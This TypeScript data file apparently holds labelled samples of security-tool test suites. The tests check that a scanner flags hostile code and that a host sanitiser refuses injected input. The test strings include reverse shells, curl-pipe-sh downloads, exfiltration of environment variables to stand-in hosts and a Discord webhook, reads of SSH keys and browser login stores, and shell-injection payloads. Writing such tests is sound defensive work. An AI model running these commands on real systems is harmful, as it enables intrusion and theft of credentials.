// Tests of security tools, which hold samples as texts.
import type { Family } from './family.ts'

export const goodSecurityTests: readonly Family[] = [
  {
    family: 'scanner-test-suite',
    positive: false,
    classes: ['decoded-exec'],
    variants: [
      {
        paths: ['tests/test_rules.py'],
        whole: `import textwrap

import pytest

from guard.rules import scan

BAD = {
    "exec-base64": "exec(base64.b64decode('cHJpbnQoMSk='))",
    "reverse-shell": "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
    "download-run": "curl -s http://192.0.2.1/x | sh",
    "env": "requests.post('http://192.0.2.1', data=dict(os.environ))",
}


@pytest.mark.parametrize("rule, source", BAD.items())
def test_bad_sources_are_found(rule, source):
    assert rule in [hit.rule for hit in scan(source)]


def test_good_sources_are_left_alone():
    source = textwrap.dedent("""
        import subprocess
        subprocess.run(["git", "status"], check=True)
    """)
    assert scan(source) == []`,
      },
    ],
  },
  {
    family: 'scanner-test-jest',
    positive: false,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['test/stealer.test.js'],
        whole: String.raw`import { describe, expect, it } from 'vitest'
import { scan } from '../src/scan'

describe('credential theft', () => {
  it.each([
    ["fs.readFileSync(os.homedir() + '/.ssh/id_rsa')", 'ssh-key'],
    ["fetch('https://discord.com/api/webhooks/1/x', { body: JSON.stringify(process.env) })", 'env-⟦join⟧
webhook'],
    ["open(os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data⟦join⟧
')", 'browser-store'],
  ])('%s', (source, rule) => {
    expect(scan(source).map((hit) => hit.rule)).toContain(rule)
  })

  it('does not mind a dotenv loader', () => {
    expect(scan("require('dotenv').config()")).toEqual([])
  })
})`,
      },
    ],
  },
  {
    family: 'sanitiser-payload-tests',
    positive: false,
    classes: ['shell-injection'],
    variants: [
      {
        paths: ['spec/escape_test.py'],
        whole: `import unittest

from netdesk.sanitise import clean_host, quote


class HostTest(unittest.TestCase):
    PAYLOADS = [
        "example.com; cat /etc/passwd",
        "example.com && curl http://192.0.2.1/x | sh",
        "$(nc -e /bin/sh 192.0.2.1 4444)",
        "\`id\`",
        "example.com\\nrm -rf /",
        "\${jndi:ldap://192.0.2.1/a}",
    ]

    def test_payloads_are_refused(self):
        for payload in self.PAYLOADS:
            with self.subTest(payload), self.assertRaises(ValueError):
                clean_host(payload)

    def test_plain_hosts_pass(self):
        self.assertEqual(clean_host("db-1.example.com"), "db-1.example.com")

    def test_quote(self):
        self.assertEqual(quote("it's"), "'it'\\"'\\"'s'")


if __name__ == "__main__":
    unittest.main()`,
      },
    ],
  },
]
